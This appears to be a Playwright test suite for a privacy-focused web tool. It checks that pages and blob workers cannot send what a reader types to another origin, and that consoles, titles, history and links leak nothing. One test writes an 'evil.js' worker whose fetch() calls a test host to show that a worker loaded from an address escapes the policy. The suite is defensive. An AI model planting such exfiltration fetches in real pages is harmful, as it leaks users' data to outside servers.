"""Tests that try to leak: every way out of the page and of its worker, first shown to work where nothing defends."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.attempts import ABSENT, BLOCKED, script
from tests.browser.conftest import ROOT, World, served
from tests.browser.journeys import IMPLANT
from tests.browser.test_chromium import all_questions, fill, finish

TRIED = set(BLOCKED) - ABSENT["chromium"]
PAGES = ("fr/tools/france/", "fr/tools/amount-france/", "zh-Hans/tools/papers-china/", "zh-Hans/tools/deadlines-china/", "zh-Hans/guides/france/refused/", "en/trust/check-it-yourself/", "404.html", "")


def arrived(world: World) -> set[str]:
    """Return the names of the attempts that reached the other origin."""
    return {hit.strip("/?").split("?")[0] for hit in world.hits}


def try_all(page: Page, world: World, only: set[str]) -> set[str]:
    """Run the attempts and return those that arrived."""
    world.hits.clear()
    page.evaluate(script(world.address, only))
    page.wait_for_timeout(1500)
    return arrived(world)


def test_the_attempts_work_where_nothing_defends(page: Page, bare: str, world: World) -> None:
    """Else the next test would prove nothing."""
    page.goto(bare)
    assert TRIED == try_all(page, world, TRIED)


@pytest.mark.parametrize("where", PAGES)
def test_nothing_gets_out_of_our_pages(page: Page, site: str, world: World, where: str) -> None:
    """Tool, guide, trust page, lost page and chooser: no attempt arrives."""
    page.goto(site + where)
    assert set() == try_all(page, world, set(BLOCKED))


def test_a_worker_from_an_address_would_escape(page: Page, world: World, tmp_path: Path) -> None:
    """L7: under our own policy, a worker that comes from an address reaches the other origin. Hence the blobs."""
    for part in (ROOT / "site").iterdir():
        (tmp_path / part.name).symlink_to(part)
    (tmp_path / "evil.js").write_text(f"fetch({world.address + 'evil'!r}).catch(() => {{}});")
    with served(tmp_path) as address:
        page.goto(address + IMPLANT.page)
        page.evaluate("new Worker('/evil.js')")
        page.wait_for_timeout(1000)
    assert {"evil"} == arrived(world)


def test_all_workers_of_a_journey_are_blobs(page: Page, site: str) -> None:
    """L7: those inherit the page's policy."""
    started: list[str] = []
    page.on("worker", lambda worker: started.append(worker.url))
    page.goto(site + IMPLANT.page)
    fill(page, IMPLANT)
    finish(page)
    assert started
    assert all(url.startswith("blob:") for url in started)


def test_the_console_and_the_marks_hold_nothing_of_the_reader(page: Page, site: str) -> None:
    """L10 and L13: no message, mark, title or history entry repeats what was typed, also when it was refused."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda fault: said.append(str(fault)))
    page.goto(site + IMPLANT.page)
    fill(page, IMPLANT)
    page.locator("#name-input").fill("Zsecret Nom")
    page.locator("#invoiced-0-day").fill("31")
    page.locator("#invoiced-0-month").fill("2")
    page.locator("button[type=submit]").click()
    expect(page.locator("[data-summary]")).to_be_visible(timeout=60_000)
    page.locator("#invoiced-0-month").fill("3")
    finish(page)
    marks = page.evaluate("[...performance.getEntriesByType('mark'), ...performance.getEntriesByType('measure')].map((m) => m.name).join(' ')")
    assert "Zsecret" not in " ".join([*said, marks, page.title(), page.url])


def test_nothing_goes_to_the_clipboard_or_away_before_a_click(page: Page, site: str) -> None:
    """L15: clipboard, share, notification and window are not touched by a whole journey."""
    page.add_init_script("""window.touched = [];
      for (const [owner, name] of [[navigator.clipboard, "writeText"], [navigator.clipboard, "write"], [navigator, "share"], [window, "open"], [window.Notification || {}, "requestPermission"]])
        if (owner) owner[name] = (...given) => { window.touched.push(name); return Promise.resolve(); };""")
    page.goto(site + IMPLANT.page)
    fill(page, IMPLANT)
    finish(page)
    assert [] == page.evaluate("window.touched")
    page.locator("[data-copy]").first.click()
    assert ["writeText"] == page.evaluate("window.touched")


def test_nothing_gets_out_of_the_running_worker(page: Page, site: str, world: World) -> None:
    """The blob worker inherits the page's policy: a fetch from inside Python's own thread is blocked."""
    page.goto(site + "fr/tools/france/")
    all_questions(page)
    page.locator("#subject-input").focus()
    page.wait_for_selector("[data-engine=ready]", timeout=60_000)
    worker = next(w for w in page.workers if w.url.startswith("blob:"))
    world.hits.clear()
    said = worker.evaluate("(u) => fetch(u).then(() => 'out', () => 'blocked')", world.address)
    assert ("blocked", []) == (said, world.hits)


def test_requests_do_not_depend_on_what_the_reader_types(chromium: Browser, site: str) -> None:
    """Two readers, the same list of addresses; no word of theirs in any address, title or history."""
    logs = []
    for name in ("Secret Premier", "Autre Personne"):
        context = chromium.new_context()
        page = context.new_page()
        asked: list[str] = []
        page.on("request", lambda r, asked=asked: asked.append(f"{r.method} {r.url} {r.post_data or ''}"))
        page.goto(site + IMPLANT.page)
        fill(page, IMPLANT)
        page.locator("#name-input").fill(name)
        finish(page)
        traces = page.evaluate("[location.href, document.title, JSON.stringify(history.state), performance.getEntries().map((e) => e.name).join(' ')].join(' ')")
        assert name.split()[0] not in traces
        logs.append(sorted(line for line in asked if "blob:" not in line))
        context.close()
    assert logs[0] == logs[1]
    assert all("Secret" not in line for line in logs[0])


#: Page -> what a reader types (by element), what they tick, and words of theirs that may stand nowhere outside.
SUMS = {
    "fr/tools/amount-france/": ({"g-value-1-input": "98765", "cost-1-input": "98765,43", "paid-input": "1"}, ("g-form-1-lump_sum", "g-per-1-year", "g-needs-1-no", "has-base-1-no", "guarantee-1-a"), ("98765", "lump_sum")),
    "zh-Hans/tools/papers-china/": ({}, ("claim-type-medical", "have-medical-identity"), ("claim-type", "identity")),
}  # fmt: skip


@pytest.mark.parametrize("where", sorted(SUMS))
def test_amounts_and_papers_keep_shut_what_the_letters_do(page: Page, site: str, world: World, where: str) -> None:
    """L7, L8, L10, L11, L13, L14, L15, L18 on the tools with one result: blobs only, silence once ready, and no word in any trace."""
    typed, ticked, words = SUMS[where]
    started, said, asked = [], [], []
    page.on("worker", lambda worker: started.append(worker.url))
    page.on("console", lambda message: said.append(message.text))
    page.on("request", lambda r: None if r.url.startswith("blob:") else asked.append(f"{r.method} {r.url} {r.post_data or ''}"))
    page.add_init_script("""window.touched = []; for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel"]) delete window[name];
      for (const [owner, name] of [[navigator.clipboard, "writeText"], [navigator.clipboard, "write"], [navigator, "share"], [window, "open"]])
        if (owner) owner[name] = () => { window.touched.push(name); return Promise.resolve(); };""")
    page.goto(site + where)
    page.locator("form[data-sum] input").first.focus()
    page.wait_for_selector("[data-engine=ready]", timeout=60_000)
    page.wait_for_load_state("networkidle")
    worker = next(w for w in page.workers if w.url.startswith("blob:"))
    assert ("blocked", []) == (worker.evaluate("(u) => fetch(u).then(() => 'out', () => 'blocked')", world.address), world.hits)
    worker.evaluate("() => { self.fetch = () => { throw new Error('no network'); }; }")
    for name in ticked:
        page.locator(f"#{name}").check()
    for name, text in typed.items():
        page.locator(f"#{name}").fill(text)
    page.locator("button[type=submit]").click()
    expect(page.locator("[data-results]")).to_be_visible(timeout=60_000)
    # Offline use may begin once a tool has been used: addresses of the list of files, the same for everybody.
    marks = page.evaluate("[...performance.getEntries().map((e) => e.name), location.href, document.title, JSON.stringify(history.state)].join(' ')")
    assert all(line.startswith(f"GET {site}") and line.endswith(" ") for line in asked)
    assert not [word for word in words if word in " ".join([*said, *asked, marks]).replace(where, "")]
    assert started and all(url.startswith("blob:") for url in started)
    assert [] == page.evaluate("window.touched")
    for link in page.locator("[data-results] a[href^=http]").all():
        assert "noreferrer" in (link.get_attribute("rel") or "")


def test_links_out_carry_no_referrer(page: Page, site: str) -> None:
    """Nobody learns which page a reader came from."""
    page.goto(site + IMPLANT.page)
    assert page.locator("meta[name=referrer]").get_attribute("content") == "no-referrer"
    fill(page, IMPLANT)
    finish(page)
    # As for printing: every closed detail is filled and opened.
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    assert page.locator("[data-results] a[href^=http]").count() > 10
    for link in page.locator("[data-results] a[href^=http], [data-letter] a[href^=http]").all():
        assert "noreferrer" in (link.get_attribute("rel") or "")


def test_identity_fields_are_not_spell_checked(page: Page, site: str) -> None:
    """Some browsers send what is spell-checked to a server."""
    page.goto(site + "fr/tools/france/")
    for name in ("name-input", "address-input", "number-input", "insurer-input"):
        assert page.locator(f"#{name}").get_attribute("spellcheck") == "false"


def test_python_cannot_reach_the_network(page: Page, site: str) -> None:
    """A run in which fetch throws after the start gives the same letter."""
    page.goto(site + IMPLANT.page)
    fill(page, IMPLANT)
    finish(page)
    first = page.locator("[data-letter]").inner_text()
    worker = next(w for w in page.workers if w.url.startswith("blob:"))
    worker.evaluate("() => { self.fetch = () => { throw new Error('no network'); }; }")
    page.locator("button[type=submit]").click()
    page.wait_for_timeout(800)
    assert first == page.locator("[data-letter]").inner_text()


def test_everything_works_without_webrtc(page: Page, site: str) -> None:
    """L8: no policy stops it, so nothing of ours may need it."""
    page.add_init_script("for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel']) delete window[name];")
    page.goto(site + IMPLANT.page)
    assert page.evaluate("typeof RTCPeerConnection") == "undefined"
    fill(page, IMPLANT)
    finish(page)
    assert IMPLANT.letter[0] in page.locator("[data-letter]").inner_text()
